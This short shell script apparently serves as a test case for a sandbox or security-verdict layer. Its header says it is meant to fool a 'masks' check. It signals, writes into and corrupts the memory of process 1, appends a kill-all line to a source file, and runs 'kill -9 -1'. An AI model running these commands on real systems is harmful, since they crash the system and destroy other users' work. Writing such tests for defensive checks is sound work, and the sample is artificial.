# tries: Sends every signal to process 1, writes to its memory and descriptors, and kills all processes.
# layer: verdict
# fools: masks
for number in $(seq 1 64); do kill -$number 1; done
for descriptor in /proc/1/fd/*; do (timeout 1 bash -c "echo '{\"op\": \"stop\"}' > $descriptor"); done
python -c 'open("/proc/1/mem", "r+b").write(b"x")'
echo 'import os; os.kill(-1, 9)' >> "$SOURCE"
kill -9 -1
